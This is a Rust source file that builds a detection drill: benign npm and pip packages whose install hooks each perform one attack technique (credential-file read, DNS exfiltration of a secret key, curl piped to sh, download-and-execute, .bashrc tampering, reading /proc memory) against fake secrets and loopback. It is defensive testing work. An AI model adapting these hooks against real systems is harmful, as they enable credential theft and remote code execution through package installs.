//! The drill's kit: benign "malicious" npm and pip packages, one technique each, aimed only at
//! the drill's own fake secrets, its fake home directory and loopback.
//!
//! Each package starts its technique by opening `$BW_DRILL_DIR/marks/<technique>`: the kernel
//! records that open, and its time is the technique's start for the time to detect.

use std::{
    fs,
    path::{Path, PathBuf},
    process::Command,
};

use anyhow::{Context, Result, bail};

/// One technique: what a malicious install script does, and the rules meant to catch it.
#[derive(Clone, Copy, Debug)]
pub struct Technique {
    pub id: &'static str,
    pub what: &'static str,
    /// The default rules that catch it (the scorecard names what did).
    pub rules: &'static [&'static str],
}

pub const TECHNIQUES: &[Technique] = &[
    Technique {
        id: "credential-read",
        what: "reads a cloud credential file (.aws/credentials)",
        rules: &["sensitive-file-read"],
    },
    Technique {
        id: "dns-leak",
        what: "leaks AWS_SECRET_ACCESS_KEY in 16-character base32 DNS labels",
        rules: &["secret-exfil"],
    },
    Technique {
        id: "curl-pipe-sh",
        what: "pipes a script downloaded with curl into sh",
        rules: &[
            "network-data-piped-to-interpreter",
            "download-piped-to-shell",
        ],
    },
    Technique {
        id: "shell-rc",
        what: "appends to a shell start-up file (.bashrc)",
        rules: &["write-shell-rc"],
    },
    Technique {
        id: "process-memory",
        what: "opens another process's memory (/proc/PID/mem of its parent)",
        rules: &["read-other-process-memory"],
    },
    Technique {
        id: "download-exec",
        what: "downloads a program with curl, makes it executable and runs it",
        rules: &["exec-downloaded-file"],
    },
];

pub const VERSION: &str = "1.0.0";

/// The package that carries a technique (the same name in both ecosystems).
pub fn package_name(t: &Technique) -> String {
    format!("bw-drill-{}", t.id)
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ecosystem {
    Npm,
    Pip,
}

impl Ecosystem {
    pub fn name(self) -> &'static str {
        match self {
            Ecosystem::Npm => "npm",
            Ecosystem::Pip => "pip",
        }
    }
}

/// Where the kit's parts are, under the drill's directory.
pub struct Layout {
    pub dir: PathBuf,
    /// A fake home: `.aws/credentials` with fake keys, and a `.bashrc` to append to.
    pub home: PathBuf,
    pub marks: PathBuf,
    /// Where downloaded programs land.
    pub tmp: PathBuf,
    pub registry: PathBuf,
}

impl Layout {
    pub fn new(dir: &Path) -> Self {
        Self {
            dir: dir.to_path_buf(),
            home: dir.join("home"),
            marks: dir.join("marks"),
            tmp: dir.join("tmp"),
            registry: dir.join("registry"),
        }
    }

    /// The project an ecosystem's install command runs in.
    pub fn project(&self, eco: Ecosystem) -> PathBuf {
        self.dir.join(format!("project-{}", eco.name()))
    }

    pub fn registry_of(&self, eco: Ecosystem) -> PathBuf {
        self.registry.join(eco.name())
    }
}

/// Write the fake home, the markers and, for each ecosystem, the registry and the project.
pub fn write(l: &Layout, ecosystems: &[Ecosystem], fake_key_id: &str) -> Result<()> {
    for d in [&l.home.join(".aws"), &l.marks, &l.tmp, &l.registry] {
        fs::create_dir_all(d).with_context(|| format!("creating {}", d.display()))?;
    }
    // The secret itself is only in the environment the drill gives the install command.
    write_file(
        &l.home.join(".aws/credentials"),
        &format!(
            "# buildwatch drill: fake credentials\n[default]\naws_access_key_id = {fake_key_id}\n"
        ),
    )?;
    write_file(&l.home.join(".bashrc"), "# buildwatch drill: fake home\n")?;
    for t in TECHNIQUES {
        write_file(&l.marks.join(t.id), "")?;
    }
    for &eco in ecosystems {
        let reg = l.registry_of(eco);
        fs::create_dir_all(&reg).with_context(|| format!("creating {}", reg.display()))?;
        let proj = l.project(eco);
        fs::create_dir_all(&proj).with_context(|| format!("creating {}", proj.display()))?;
        match eco {
            Ecosystem::Npm => write_npm(l, &reg, &proj)?,
            Ecosystem::Pip => write_pip(l, &reg, &proj)?,
        }
    }
    Ok(())
}

fn write_file(p: &Path, body: &str) -> Result<()> {
    fs::write(p, body).with_context(|| format!("writing {}", p.display()))
}

/// `tar -czf OUT -C DIR NAME`: fixed arguments, paths the drill made.
fn tar(out: &Path, dir: &Path, name: &str) -> Result<()> {
    let st = Command::new("tar")
        .arg("-czf")
        .arg(out)
        .arg("-C")
        .arg(dir)
        .arg(name)
        .status()
        .context("running tar (needed to pack the drill's packages)")?;
    if !st.success() {
        bail!("tar failed packing {}: {st}", out.display());
    }
    Ok(())
}

fn write_npm(l: &Layout, reg: &Path, proj: &Path) -> Result<()> {
    let mut deps = serde_json::Map::new();
    for t in TECHNIQUES {
        let name = package_name(t);
        let src = l.registry.join("src-npm").join(&name);
        let pkg = src.join("package");
        fs::create_dir_all(&pkg).with_context(|| format!("creating {}", pkg.display()))?;
        let manifest = serde_json::json!({
            "name": name,
            "version": VERSION,
            "description": format!("buildwatch drill: {} (benign)", t.what),
            "license": "MIT",
            "scripts": {"postinstall": format!("node drill.js {}", t.id)},
        });
        write_file(&pkg.join("package.json"), &manifest.to_string())?;
        write_file(&pkg.join("drill.js"), DRILL_JS)?;
        let tgz = reg.join(format!("{name}-{VERSION}.tgz"));
        tar(&tgz, &src, "package")?;
        deps.insert(
            name.clone(),
            format!("file:../registry/npm/{name}-{VERSION}.tgz").into(),
        );
    }
    let project = serde_json::json!({
        "name": "bw-drill-project",
        "version": "1.0.0",
        "private": true,
        "dependencies": deps,
    });
    write_file(
        &proj.join("package.json"),
        &serde_json::to_string_pretty(&project)?,
    )
}

fn write_pip(l: &Layout, reg: &Path, proj: &Path) -> Result<()> {
    let mut reqs = String::new();
    for t in TECHNIQUES {
        let name = package_name(t);
        let base = format!("{}-{VERSION}", name.replace('-', "_"));
        let srcs = l.registry.join("src-pip");
        let src = srcs.join(&base);
        fs::create_dir_all(&src).with_context(|| format!("creating {}", src.display()))?;
        write_file(
            &src.join("PKG-INFO"),
            &format!("Metadata-Version: 2.1\nName: {name}\nVersion: {VERSION}\n"),
        )?;
        write_file(
            &src.join("pyproject.toml"),
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
        )?;
        let backend = BACKEND_PY
            .replace("@NAME@", &name)
            .replace("@VERSION@", VERSION)
            .replace("@TECHNIQUE@", t.id);
        write_file(&src.join("backend.py"), &backend)?;
        write_file(&src.join("drill.py"), DRILL_PY)?;
        tar(&reg.join(format!("{base}.tar.gz")), &srcs, &base)?;
        reqs.push_str(&format!("{name}=={VERSION}\n"));
    }
    write_file(&proj.join("requirements.txt"), &reqs)
}

/// The npm packages' postinstall script: `node drill.js TECHNIQUE`.
const DRILL_JS: &str = r#"'use strict';
// buildwatch drill: one attack technique, made benign. It touches only the drill's fake home
// and fake secrets, and talks only to the drill's servers on loopback.
const fs = require('fs'), cp = require('child_process'), dgram = require('dgram'), path = require('path');
const t = process.argv[2], E = process.env, D = E.BW_DRILL_DIR;
fs.closeSync(fs.openSync(path.join(D, 'marks', t), 'r'));
function b32(buf) {
  const A = 'abcdefghijklmnopqrstuvwxyz234567';
  let v = 0, bits = 0, out = '';
  for (const x of buf) {
    v = ((v << 8) | x) & 0xffff; bits += 8;
    while (bits >= 5) { out += A[(v >>> (bits - 5)) & 31]; bits -= 5; }
  }
  if (bits > 0) out += A[(v << (5 - bits)) & 31];
  return out;
}
function query(name, id) {
  const parts = [Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
  for (const l of name.split('.')) parts.push(Buffer.from([l.length]), Buffer.from(l));
  parts.push(Buffer.from([0, 0, 1, 0, 1]));
  return Buffer.concat(parts);
}
switch (t) {
  case 'credential-read':
    fs.readFileSync(path.join(E.BW_DRILL_HOME, '.aws', 'credentials'));
    break;
  case 'dns-leak': {
    const enc = b32(Buffer.from(E.AWS_SECRET_ACCESS_KEY || ''));
    const chunks = [];
    for (let i = 0; i < enc.length; i += 16) chunks.push(enc.slice(i, i + 16));
    const s = dgram.createSocket('udp4');
    let sent = 0;
    chunks.forEach((c, i) => s.send(query(c + '.' + i + '.npm.drill.test', 0x4200 + i), 53, E.BW_DRILL_DNS,
      () => { if (++sent === chunks.length) s.close(); }));
    break;
  }
  case 'curl-pipe-sh':
    cp.execSync('curl -fsS -m 5 ' + E.BW_DRILL_URL + '/payload.sh | sh', { stdio: 'inherit' });
    break;
  case 'shell-rc':
    fs.appendFileSync(path.join(E.BW_DRILL_HOME, '.bashrc'), '\n# added by the buildwatch drill (npm)\n');
    break;
  case 'process-memory':
    try { fs.closeSync(fs.openSync('/proc/' + process.ppid + '/mem', 'r')); } catch (e) { }
    break;
  case 'download-exec': {
    const tool = path.join(D, 'tmp', 'tool-npm');
    cp.execFileSync('curl', ['-fsS', '-m', '5', '-o', tool, E.BW_DRILL_URL + '/tool']);
    fs.chmodSync(tool, 0o755);
    cp.execFileSync(tool, [], { stdio: 'inherit' });
    break;
  }
}
"#;

/// The pip packages' code: run from their build backend (pip runs it to build the wheel).
const DRILL_PY: &str = r#"# buildwatch drill: one attack technique, made benign. It touches only the drill's fake home
# and fake secrets, and talks only to the drill's servers on loopback.
import base64, os, socket, struct, subprocess

def run(t):
    E, D = os.environ, os.environ["BW_DRILL_DIR"]
    open(os.path.join(D, "marks", t)).close()
    if t == "credential-read":
        open(os.path.join(E["BW_DRILL_HOME"], ".aws", "credentials")).read()
    elif t == "dns-leak":
        enc = base64.b32encode(E.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().rstrip("=").lower()
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for n, i in enumerate(range(0, len(enc), 16)):
            name = "%s.%d.pip.drill.test" % (enc[i:i + 16], n)
            q = struct.pack(">HHHHHH", 0x4200 + n, 0x0100, 1, 0, 0, 0)
            q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
            s.sendto(q + struct.pack(">HH", 1, 1), (E["BW_DRILL_DNS"], 53))
        s.close()
    elif t == "curl-pipe-sh":
        subprocess.run("curl -fsS -m 5 %s/payload.sh | sh" % E["BW_DRILL_URL"], shell=True)
    elif t == "shell-rc":
        with open(os.path.join(E["BW_DRILL_HOME"], ".bashrc"), "a") as f:
            f.write("\n# added by the buildwatch drill (pip)\n")
    elif t == "process-memory":
        try:
            open("/proc/%d/mem" % os.getppid(), "rb").close()
        except OSError:
            pass
    elif t == "download-exec":
        tool = os.path.join(D, "tmp", "tool-pip")
        subprocess.run(["curl", "-fsS", "-m", "5", "-o", tool, E["BW_DRILL_URL"] + "/tool"])
        os.chmod(tool, 0o755)
        subprocess.run([tool])
"#;

/// An in-tree PEP 517 backend (nothing to download, so pip works with --no-index): runs the
/// technique, then builds a wheel holding one empty module.
const BACKEND_PY: &str = r#"import os, zipfile
import drill
NAME, VERSION = "@NAME@", "@VERSION@"
MOD = NAME.replace("-", "_")
DIST = MOD + "-" + VERSION + ".dist-info"
META = "Metadata-Version: 2.1\nName: " + NAME + "\nVersion: " + VERSION + "\n"
WHEEL = "Wheel-Version: 1.0\nGenerator: buildwatch-drill\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
def get_requires_for_build_wheel(config_settings=None):
    return []
def prepare_metadata_for_build_wheel(d, config_settings=None):
    os.makedirs(os.path.join(d, DIST))
    open(os.path.join(d, DIST, "METADATA"), "w").write(META)
    open(os.path.join(d, DIST, "WHEEL"), "w").write(WHEEL)
    return DIST
def build_wheel(wd, config_settings=None, metadata_directory=None):
    drill.run("@TECHNIQUE@")
    whl = MOD + "-" + VERSION + "-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wd, whl), "w") as z:
        z.writestr(MOD + ".py", "")
        z.writestr(DIST + "/METADATA", META)
        z.writestr(DIST + "/WHEEL", WHEEL)
        z.writestr(DIST + "/RECORD", MOD + ".py,,\n" + DIST + "/METADATA,,\n" + DIST + "/WHEEL,,\n" + DIST + "/RECORD,,\n")
    return whl
"#;

/// The drill's HTTP server's files: a script for `curl | sh`, a program for download-and-run.
pub const PAYLOAD_SH: &str = "#!/bin/sh\necho 'buildwatch drill: the piped script ran (benign)'\n";
pub const TOOL_SH: &str =
    "#!/bin/sh\necho 'buildwatch drill: the downloaded program ran (benign)'\n";
